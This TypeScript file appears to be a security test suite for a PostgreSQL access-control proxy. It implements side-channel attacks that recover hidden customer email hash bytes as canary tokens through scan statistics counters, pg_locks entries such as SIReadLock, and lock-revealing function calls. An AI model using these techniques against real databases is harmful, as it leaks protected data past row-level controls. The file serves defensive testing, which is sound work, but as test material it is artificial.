/** What the server keeps of its own work tells of the rows that statements looked at: how often a table or an index was scanned, which rows and relations are locked. */

import { attackSuite, type Attacker, type Technique } from '../../support/attack.ts';
import { tokensOfBits } from '../../support/canaries.ts';
import { rowsOf, wire, type WireClient } from '../../support/wire-client.ts';

export const bookkeeping = attackSuite('bookkeeping', {
  sql: `CREATE OPERATOR public.!>>> (FUNCTION = currval, RIGHTARG = regclass);
    CREATE DOMAIN public.partition_oid AS oid CHECK (pg_get_partition_constraintdef(VALUE) IS NOT NULL);
    CREATE DOMAIN public.hashed_oid AS oid CHECK (satisfies_hash_partition(VALUE, 1, 0, 1) IS NOT NULL)`,
});
/** The same by way of another process. */
export const bookkeepingApart = attackSuite('bookkeeping-apart', { processes: 2 });

/** A byte of a customer's hash. */
const DIGIT = `('x' || substr(right(c.email, 8), 1 + 2 * quarter, 2))::bit(8)::int`;
const token = (id: unknown, hash: string): string => `cnry-${String(id).padStart(6, '0')}-${hash.padStart(8, '0')} `;
const PLAIN = 'SET enable_hashjoin = off; SET enable_mergejoin = off; SET enable_material = off; SET enable_memoize = off; SET max_parallel_workers_per_gather = 0; SET jit = off';

/** Ops forget what was marked, so that each technique meets a server that nobody has asked anything. */
export function afresh(technique: Technique): Technique {
  return async (attacker) => {
    await forgotten(attacker);
    await technique(attacker);
  };
}

async function forgotten({ direct, bed }: Attacker): Promise<void> {
  if (direct) return;
  for (const { adminPort } of bed.rowgates) await fetch(`http://127.0.0.1:${adminPort}/v1/bookkeeping/forget`, { method: 'POST', headers: { authorization: 'Bearer test-token' } });
  await new Promise((resolve) => setTimeout(resolve, bed.rowgates.length > 1 ? 1_000 : 0));
}

/** Numbers by `4 * id + quarter`. */
function spell(attacker: Attacker, digits: ReadonlyMap<number, number>, from = 1, { customers }: { readonly customers: number } = attacker): void {
  for (let id = from; id < from + customers; id++) {
    attacker.decoded += token(id, [0, 1, 2, 3].map((quarter) => (digits.get(4 * id + quarter) ?? 0).toString(16).padStart(2, '0')).join(''));
  }
}

function byKey(rows: readonly (readonly unknown[])[]): ReadonlyMap<number, number> {
  return new Map(rows.map(([name, value]) => [Number(/\d+$/.exec(String(name))?.[0]), Number(String(value)) || 0]));
}

function rise(before: ReadonlyMap<number, number>, after: ReadonlyMap<number, number>, per = 1): ReadonlyMap<number, number> {
  return new Map([...after].map(([key, value]) => [key, Math.round((value - (before.get(key) ?? 0)) / per)]));
}

/** A table of a partition for each digit; `row`: with a row in each, whose page must be read. */
async function partitions({ own, customers }: Attacker, client: WireClient, row = false): Promise<void> {
  await client.query(PLAIN);
  await client.query(`CREATE TABLE public.${own} (k int) PARTITION BY LIST (k)`);
  for (let k = 4; k < 4 * customers + 4; k += 120) await client.query(Array.from({ length: 120 }, (_, i) => `CREATE TABLE public.${own}_${k + i} PARTITION OF public.${own} FOR VALUES IN (${k + i})`).join(';'), 60_000);
  if (row) await client.query(`INSERT INTO public.${own} SELECT generate_series(4, ${4 * customers + 3})`, 60_000);
}

/** Each partition is scanned as often as its digit says. */
const scanning = ({ own, customers }: Attacker): string =>
  `SELECT count((SELECT count(*) FROM public.${own} p WHERE p.k = 4 * c.id + quarter + 0 * g)) FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}`;

/** What sessions have counted is told to all by and by; the server can be asked for it at once. */
async function flushed(client: WireClient): Promise<void> {
  await client.query('SELECT pg_stat_force_next_flush()');
  await client.query('SELECT 1');
}

/** `look`: gives names with numbers at their end, and the counter of each. */
const counted = (look: (own: string) => string, { another = false, per = 1, row = false } = {}): Technique => afresh(async (attacker) => {
  const client = await attacker.connect();
  const reader = another ? await attacker.connect() : client;
  await partitions(attacker, client, row);
  await flushed(client);
  const before = byKey(rowsOf(await reader.query(look(attacker.own))));
  await client.query(scanning(attacker), 60_000);
  await flushed(client);
  spell(attacker, rise(before, byKey(rowsOf(await reader.query(look(attacker.own)))), per));
});

const tables = (own: string): string => `SELECT relname, seq_scan FROM pg_stat_user_tables WHERE relname LIKE '${own}\\_%'`;
const numscans = (own: string): string => `SELECT relname, pg_stat_get_numscans(oid) FROM pg_class WHERE relkind = 'r' AND relname LIKE '${own}\\_%'`;

/** One table, and an index for each digit. */
const manyIndexes: Technique = afresh(async (attacker) => {
  const { own, customers } = attacker;
  const client = await attacker.connect();
  const keys = Array.from({ length: 4 * customers }, (_, i) => i + 4);
  await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
  await client.query(`CREATE TABLE public.${own} (k int, v int)`);
  for (let k = 0; k < keys.length; k += 120) await client.query(keys.slice(k, k + 120).map((key) => `CREATE INDEX ${own}_${key} ON public.${own} (v) WHERE k = ${key}`).join(';'), 60_000);
  const branch = (key: number): string => `WHEN ${key} THEN (SELECT count(*) FROM public.${own} WHERE k = ${key} AND v = d.g)`;
  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}) d`, 80_000);
  await flushed(client);
  spell(attacker, byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = '${own}'`))));
});

/** Seven tables with four indexes each, asked at twenty-eight places: more counters than tables. */
const manyPlaces = (view: boolean): Technique => afresh(async (attacker) => {
  const { own } = attacker;
  const client = await attacker.connect();
  await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
  const digits = Array.from({ length: 28 }, (_, i) => i);
  for (let t = 0; t < 7; t++) await client.query(`CREATE TABLE public.${own}_${t} (k int, v int); ${[0, 1, 2, 3].map((k) => `CREATE INDEX ${own}_i_${4 * t + k} ON public.${own}_${t} (v) WHERE k = ${k};`).join(' ')}`);
  await client.query(`CREATE VIEW public.${own} AS ${digits.map((i) => `SELECT ${i} AS i, v FROM public.${own}_${i >> 2} WHERE k = ${i & 3}`).join(' UNION ALL ')}`);
  const asked = view ? `(SELECT 1 FROM public.${own} a WHERE a.i = d.k AND a.v = d.g LIMIT 1)` : `CASE d.k ${digits.map((i) => `WHEN ${i} THEN (SELECT 1 FROM public.${own}_${i >> 2} WHERE k = ${i & 3} AND v = d.g LIMIT 1)`).join(' ')} END`;
  const look = async (): Promise<ReadonlyMap<number, number>> => {
    await flushed(client);
    return byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname LIKE '${own}\\_%'`)));
  };
  for (let id = 1; id <= 1.5 * attacker.customers; id += 7) {
    const before = await look();
    await client.query(`SELECT count(${asked}) FROM (SELECT 4 * (c.id - ${id}) + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id >= ${id} AND c.id < ${id + 7}) d`, 30_000);
    spell(attacker, new Map([...rise(before, await look())].map(([i, digit]) => [4 * id + i, digit])), id, { customers: 7 });
  }
});

/** Tables of the system that nothing else scans from end to end. */
const QUIET = ['pg_aggregate', 'pg_amop', 'pg_amproc', 'pg_cast', 'pg_collation', 'pg_conversion', 'pg_default_acl', 'pg_enum', 'pg_event_trigger', 'pg_extension', 'pg_foreign_data_wrapper', 'pg_foreign_server', 'pg_foreign_table', 'pg_init_privs', 'pg_largeobject_metadata', 'pg_opfamily', 'pg_partitioned_table', 'pg_policy', 'pg_publication_namespace', 'pg_publication_rel', 'pg_range', 'pg_seclabel', 'pg_shseclabel', 'pg_transform', 'pg_ts_config', 'pg_ts_dict', 'pg_ts_parser', 'pg_ts_template'] as const;

const systemCatalogs: Technique = afresh(async (attacker) => {
  const client = await attacker.connect();
  await client.query(`${PLAIN}; SET enable_indexscan = off; SET enable_bitmapscan = off; SET enable_indexonlyscan = off`);
  const look = async (): Promise<ReadonlyMap<number, number>> => {
    await flushed(client);
    const scans = new Map(rowsOf(await client.query('SELECT relname, seq_scan FROM pg_stat_sys_tables')).map(([name, scanned]) => [String(name), Number(String(scanned))]));
    return new Map(QUIET.map((name, i) => [i, scans.get(name) ?? 0]));
  };
  const each = QUIET.length / 4;
  for (let id = 1; id <= attacker.customers; id += each) {
    const before = await look();
    const branch = (name: string, i: number): string => `WHEN ${i} THEN (SELECT 1 FROM pg_catalog.${name} WHERE tableoid = d.g::oid LIMIT 1)`;
    await client.query(`SELECT count(CASE d.k ${QUIET.map(branch).join(' ')} END) FROM (SELECT 4 * (c.id - ${id}) + quarter AS k, 1 + 0 * g AS g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id >= ${id} AND c.id < ${id + each}) d`, 60_000);
    const risen = rise(before, await look());
    spell(attacker, new Map([...risen].map(([i, digit]) => [4 * id + i, digit])), id, { customers: each });
  }
});

/** A cursor that was opened before anybody had asked anything. */
const earlierCursor: Technique = afresh(async (attacker) => {
  const [client, reader] = [await attacker.connect(), await attacker.connect()];
  await partitions(attacker, client);
  await reader.query('SET stats_fetch_consistency = none');
  await reader.query('BEGIN');
  await reader.query(`DECLARE early CURSOR FOR ${numscans(attacker.own)}`);
  await client.query(scanning(attacker), 60_000);
  await flushed(client);
  spell(attacker, byKey(rowsOf(await reader.query('FETCH ALL FROM early'))));
  await reader.query('ROLLBACK');
});

/** The first row is out before anything was asked; the others are worked out when the counters have moved. */
const underWay: Technique = afresh(async (attacker) => {
  const [client, reader] = [await attacker.connect(), await attacker.connect()];
  await partitions(attacker, client);
  const answer = reader.query(`SELECT repeat('x', 100000), 0 UNION ALL SELECT relname, pg_stat_get_numscans(oid) FROM (SELECT pg_sleep(${2 + attacker.customers / 50})) s, (${numscans(attacker.own).replace(', pg_stat_get_numscans(oid)', ', oid')}) p`, 60_000);
  await new Promise((resolve) => setTimeout(resolve, 300));
  await client.query(scanning(attacker), 60_000);
  await flushed(client);
  spell(attacker, byKey(rowsOf(await answer).slice(1)));
});

/** A table that is filled from the counters while they are moved, and read when it is there. */
const filledMeanwhile: Technique = afresh(async (attacker) => {
  const { own } = attacker;
  const [client, writer] = [await attacker.connect(), await attacker.connect()];
  await partitions(attacker, client);
  const filling = writer.query(`CREATE TABLE public.kept_${own} AS SELECT relname, pg_stat_get_numscans(p.oid) AS n FROM (SELECT pg_sleep(${2 + attacker.customers / 50})) s, pg_class p WHERE relkind = 'r' AND relname LIKE '${own}\\_%'`, 60_000);
  await new Promise((resolve) => setTimeout(resolve, 300));
  await client.query(scanning(attacker), 60_000);
  await flushed(client);
  await filling;
  spell(attacker, byKey(rowsOf(await client.query(`SELECT relname, n FROM public.kept_${own}`))));
});

/** A view of one's own over the counters, made and prepared before. */
const ownView: Technique = afresh(async (attacker) => {
  const { own } = attacker;
  const client = await attacker.connect();
  await partitions(attacker, client);
  await client.query(`CREATE VIEW public.seen_${own} AS ${tables(own)}`);
  await client.query(`PREPARE look AS SELECT * FROM public.seen_${own}`);
  await client.query('EXECUTE look');
  await client.query(scanning(attacker), 60_000);
  await flushed(client);
  spell(attacker, byKey(rowsOf(await client.query('EXECUTE look'))));
});

/** Customers that one transaction looks up: a serializable transaction keeps the locks of few rows of a table apart. */
const LOOKED_UP = 3;

/** A serializable transaction that finds, for each digit, the row of a table of numbers that has it; `begin`: how it becomes one. */
const serializable = (begin: readonly string[], another: boolean, block = false): Technique => afresh(async (attacker) => {
  const { own } = attacker;
  const [client, reader] = [await attacker.connect(), await attacker.connect()];
  await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
  await client.query(`CREATE TABLE public.${own} (k int, v int, pad text, PRIMARY KEY (k, v))`);
  await client.query(`INSERT INTO public.${own} SELECT k, v, repeat('x', 1200) FROM generate_series(0, ${4 * LOOKED_UP - 1}) k, generate_series(0, 255) v`, 30_000);
  const places = new Map(rowsOf(await client.query(`SELECT ctid, k, v FROM public.${own}`)).map(([ctid, k, v]) => [String(ctid), [Number(String(k)), Number(String(v))] as const]));
  for (let id = 1; id <= attacker.customers; id += LOOKED_UP) {
    for (const sql of begin) await (block ? reader : client).query(sql);
    const look = `SELECT count((SELECT length(g.pad) FROM public.${own} g WHERE g.k = 4 * (c.id - ${id}) + quarter AND g.v = ${DIGIT})) FROM crm.customers c, generate_series(0, 3) quarter WHERE c.id >= ${id} AND c.id < ${id + LOOKED_UP}`;
    // What a transaction has read stays locked for as long as another one is open beside it.
    await client.query(block ? `DO $$ DECLARE n bigint; BEGIN COMMIT; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE; n := (${look}); COMMIT; END $$` : look, 30_000);
    const locked = rowsOf(await (another ? reader : client).query(`SELECT '(' || page || ',' || tuple || ')' FROM pg_locks WHERE mode = 'SIReadLock' AND locktype = 'tuple' AND relation = 'public.${own}'::regclass`));
    await (block ? reader : client).query('COMMIT');
    const digits = locked.flatMap(([ctid]) => (places.has(String(ctid)) ? [places.get(String(ctid)) as readonly [number, number]] : []));
    spell(attacker, new Map(digits.map(([k, v]) => [4 * id + k, v])), id, { customers: LOOKED_UP });
  }
});

/** Names of the relations that are locked, each of a bit that is set, of sixteen customers from `id` on. */
function spellLocked(attacker: Attacker, id: number, names: readonly (readonly unknown[])[]): void {
  attacker.decoded += tokensOfBits(names.map(([name]) => 32 * id + Number(String(name).slice(2))));
}

/** Sixteen customers at a time: which of the relations `r_0 ... r_511` the transaction has locked is theirs. */
const lockedByName = (make: (i: number) => string, before: string | undefined, touch: (name: string) => string): Technique => afresh(async (attacker) => {
  const client = await attacker.connect();
  for (let i = 0; i < 512; i += 128) await client.query(Array.from({ length: 128 }, (_, k) => make(i + k)).join(';'), 60_000);
  if (before !== undefined) await client.query(before);
  for (let id = 1; id <= attacker.customers; id += 16) {
    await client.query('BEGIN');
    await client.query(`SELECT count(${touch(`'r_' || (32 * (c.id - ${id}) + n)`)}) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
    const names = rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`));
    await client.query('ROLLBACK');
    spellLocked(attacker, id, names);
  }
});

/** The same where the statement writes each name out, under a condition of its own. */
const lockedOneByOne: Technique = afresh(async (attacker) => {
  const client = await attacker.connect();
  await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TEMP SEQUENCE r_${i}`).join(';'), 60_000);
  await client.query(`SELECT count(nextval('r_' || i)) FROM generate_series(0, 511) i`);
  for (let id = 1; id <= attacker.customers; id += 16) {
    const branches = Array.from({ length: 512 }, (_, i) => `WHEN ${i} THEN currval('r_${i}')`).join(' ');
    await client.query('BEGIN');
    await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${branches} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
    const names = rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`));
    await client.query('ROLLBACK');
    spellLocked(attacker, id, names);
  }
});

/** Types that a function was asked for the address of. */
const typesByName: Technique = afresh(async (attacker) => {
  const client = await attacker.connect();
  await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TYPE public.${attacker.own}_${i} AS ENUM ()`).join(';'), 60_000);
  for (let id = 1; id <= attacker.customers; id += 16) {
    await client.query('BEGIN');
    await client.query(`SELECT count(pg_get_object_address('type', ARRAY['public.${attacker.own}_' || (32 * (c.id - ${id}) + n)], '{}')) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
    const names = rowsOf(await client.query(`SELECT DISTINCT 'r' || substr(typname, ${attacker.own.length + 1}) FROM pg_locks l JOIN pg_type t ON t.oid = l.objid WHERE l.pid = pg_backend_pid() AND l.locktype = 'object' AND typname LIKE '${attacker.own}\\_%'`));
    await client.query('ROLLBACK');
    spellLocked(attacker, id, names);
  }
});

/** Each bit of sixteen customers decides whether a block looks into a table, and so locks it. */
const readByBranches: Technique = afresh(async (attacker) => {
  const client = await attacker.connect();
  await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TEMP TABLE r_${i} ()`).join(';'), 60_000);
  for (let id = 1; id <= attacker.customers; id += 16) {
    const branch = (_: unknown, i: number): string => `IF (SELECT get_bit(('x' || right(c.email, 8))::bit(32), ${i & 31}) FROM crm.customers c WHERE id = ${id + (i >> 5)}) = 1 THEN PERFORM 1 FROM r_${i}; END IF;`;
    await client.query('BEGIN');
    await client.query(`DO $$ BEGIN ${Array.from({ length: 512 }, branch).join('\n')} END $$`, 60_000);
    spellLocked(attacker, id, rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`)));
    await client.query('ROLLBACK');
  }
});

/** A table that has an index for each digit from its beginning, in the same transaction. */
const keysOfOwn: Technique = afresh(async (attacker) => {
  const { own, customers } = attacker;
  const client = await attacker.connect();
  const keys = Array.from({ length: 4 * customers }, (_, i) => i + 4);
  await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
  await client.query('BEGIN');
  await client.query(`CREATE TABLE public.${own} (${keys.map((key) => `c${key} int CONSTRAINT ${own}_${key} UNIQUE`).join(', ')})`, 60_000);
  const branch = (key: number): string => `WHEN ${key} THEN (SELECT count(*) FROM public.${own} WHERE c${key} = d.g)`;
  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}) d`, 80_000);
  await client.query('COMMIT');
  await flushed(client);
  spell(attacker, byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = '${own}'`))));
});

/** Bind plans, and planning works out what never changes: a statement that nobody executes. */
const planned: Technique = async (attacker) => {
  const client = await attacker.connect();
  await partitions(attacker, client);
  const body = scanning(attacker).replace('SELECT count(', 'SELECT 1 + 0 * count(').replace(')) FROM crm', '))::int FROM crm');
  await client.query(`CREATE FUNCTION pg_temp.f(int) RETURNS int IMMUTABLE LANGUAGE sql AS $$ ${body} AND $1 > 0 $$; CREATE OPERATOR pg_temp.!+! (FUNCTION = pg_temp.f, RIGHTARG = int)`, 30_000);
  await forgotten(attacker);
  await client.ask([wire.parse('asked', 'SELECT OPERATOR(pg_temp.!+!) 1'), wire.bind('', 'asked'), wire.sync], 1, 60_000);
  await flushed(client);
  spell(attacker, byKey(rowsOf(await client.query(tables(attacker.own)))));
};

bookkeeping.group('cumulative counters', 'side doors', () => {
  bookkeeping.attack('how often each partition was scanned, pg_stat_user_tables', counted(tables));
  bookkeeping.attack('how often each partition was scanned, pg_stat_get_numscans', counted(numscans));
  bookkeeping.attack('how many pages of each partition were read, pg_statio_user_tables', counted((own) => `SELECT relname, heap_blks_hit + heap_blks_read FROM pg_statio_user_tables WHERE relname LIKE '${own}\\_%'`, { row: true }));
  bookkeeping.attack('how many rows of each partition were read, pg_stat_get_tuples_returned', counted((own) => numscans(own).replace('numscans', 'tuples_returned'), { row: true }));
  bookkeeping.attack('read by another session', counted(tables, { another: true }));
  bookkeeping.attack('how often each index of one table was scanned, pg_stat_user_indexes', manyIndexes);
  bookkeeping.attack('seven tables at twenty-eight places', manyPlaces(false));
  bookkeeping.attack('seven tables at twenty-eight places of a view', manyPlaces(true));
  bookkeeping.attack('indexes of a table of the same transaction', keysOfOwn);
  bookkeeping.attack('how often tables of the system were scanned, pg_stat_sys_tables', systemCatalogs);
  bookkeeping.attack('a cursor that was opened before', earlierCursor);
  bookkeeping.attack('rows that were on their way before', underWay);
  bookkeeping.attack('a table that is filled meanwhile', filledMeanwhile);
  bookkeeping.attack('a view and a prepared statement of before', ownView);
  bookkeeping.attack('an operator over a function that planning works out', planned, 'lax');
});
bookkeeping.group('locks', 'side doors', () => {
  bookkeeping.attack('SIReadLock in the same transaction', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE'], false));
  bookkeeping.attack('SIReadLock seen by another session', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE'], true));
  bookkeeping.attack('SIReadLock, SET TRANSACTION', serializable(['BEGIN', 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE'], false));
  bookkeeping.attack('SIReadLock, SESSION CHARACTERISTICS', serializable(['SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'BEGIN'], false));
  bookkeeping.attack('SIReadLock, set_config', serializable([`SELECT set_config('default_transaction_isolation', 'serializable', false)`, 'BEGIN'], false));
  bookkeeping.attack('sequences that the row names, currval', lockedByName((i) => `CREATE TEMP SEQUENCE r_${i}`, `SELECT count(nextval('r_' || i)) FROM generate_series(0, 511) i`, (name) => `currval(${name})`));
  bookkeeping.attack('sequences that the row names, by an operator', lockedByName((i) => `CREATE TEMP SEQUENCE r_${i}`, `SELECT count(nextval('r_' || i)) FROM generate_series(0, 511) i`, (name) => `OPERATOR(public.!>>>) (${name})::regclass`));
  bookkeeping.attack('sequences that are named one by one, currval', lockedOneByOne);
  bookkeeping.attack('types that the row names, pg_get_object_address', typesByName);
  const moved = `SELECT count(nextval('r_' || i)) FROM generate_series(0, 511) i`;
  const sequence = (i: number): string => `CREATE TEMP SEQUENCE r_${i}`;
  bookkeeping.attack('sequences that a function is told of, SQL', lockedByName(sequence, `${moved}; CREATE FUNCTION pg_temp.f(text) RETURNS bigint LANGUAGE sql AS 'SELECT currval($1::regclass)'`, (name) => `pg_temp.f(${name})`));
  bookkeeping.attack('sequences that a function is told of, PL/pgSQL', lockedByName(sequence, `${moved}; CREATE FUNCTION pg_temp.f(name text) RETURNS bigint LANGUAGE plpgsql AS 'BEGIN RETURN currval(name::regclass); END'`, (name) => `pg_temp.f(${name})`));
  const shown = `SELECT shown FROM pg_temp.shown WHERE name = `;
  bookkeeping.attack('sequences that a view names', lockedByName(sequence, `${moved}; CREATE TEMP TABLE names AS SELECT 'r_' || i AS name FROM generate_series(0, 511) i; CREATE TEMP VIEW shown AS SELECT name, currval(name::regclass) AS shown FROM names`, (name) => `(${shown}${name} OFFSET 0)`));
  bookkeeping.attack('sequences that a policy names', lockedByName(sequence, `${moved}; CREATE TEMP TABLE shown AS SELECT 'r_' || i AS name, i AS shown FROM generate_series(0, 511) i; CREATE INDEX ON shown (name); ANALYZE shown; ALTER TABLE shown ENABLE ROW LEVEL SECURITY; ALTER TABLE shown FORCE ROW LEVEL SECURITY; CREATE POLICY p ON shown USING (currval(name::regclass) > 0); SET enable_seqscan = off`, (name) => `(${shown}${name} LIMIT 1)`));
  const partition = (i: number): string => `CREATE TEMP TABLE r_${i} PARTITION OF whole FOR VALUES IN (${i})`;
  bookkeeping.attack('partitions that the check of a domain asks about', lockedByName((i) => `${i === 0 ? 'CREATE TEMP TABLE whole (a int) PARTITION BY LIST (a); ' : ''}${partition(i)}`, undefined, (name) => `(${name})::regclass::oid::public.partition_oid`));
  bookkeeping.attack('tables that the check of a domain asks about', lockedByName((i) => `CREATE TEMP TABLE r_${i} (a int) PARTITION BY HASH (a)`, undefined, (name) => `(${name})::regclass::oid::public.hashed_oid`));
  bookkeeping.attack('tables that the row names, pg_partition_tree', lockedByName((i) => `CREATE TEMP TABLE tr_${i} (a int) PARTITION BY LIST (a); CREATE TEMP TABLE r_${i} PARTITION OF tr_${i} DEFAULT`, undefined, (name) => `(SELECT max(level) FROM pg_partition_tree(('t' || ${name})::regclass))`));
  bookkeeping.attack('views that the row names, pg_get_viewdef', lockedByName((i) => `CREATE TEMP TABLE r_${i} (a int); CREATE TEMP VIEW vr_${i} AS SELECT a FROM r_${i}`, undefined, (name) => `length(pg_get_viewdef(('v' || ${name})::regclass))`));
});
// What a login may run decides which of these are refused before they begin.
for (const role of ['agent', 'lax'] as const) {
  bookkeeping.group(`locks of code, ${role}`, 'side doors', () => {
    bookkeeping.attack('SIReadLock of a block that begins a transaction', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE', 'SELECT count(*) FROM pg_am'], true, true), role);
    bookkeeping.attack('tables that a block looks into if a bit is set', readByBranches, role);
  });
}
bookkeepingApart.group('by way of another process', 'side doors', () => {
  bookkeepingApart.attack('counters, pg_stat_user_tables', counted(tables, { another: true }));
  bookkeepingApart.attack('a cursor that was opened before', earlierCursor);
  bookkeepingApart.attack('rows that were on their way before', underWay);
  bookkeepingApart.attack('SIReadLock', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE'], true));
});
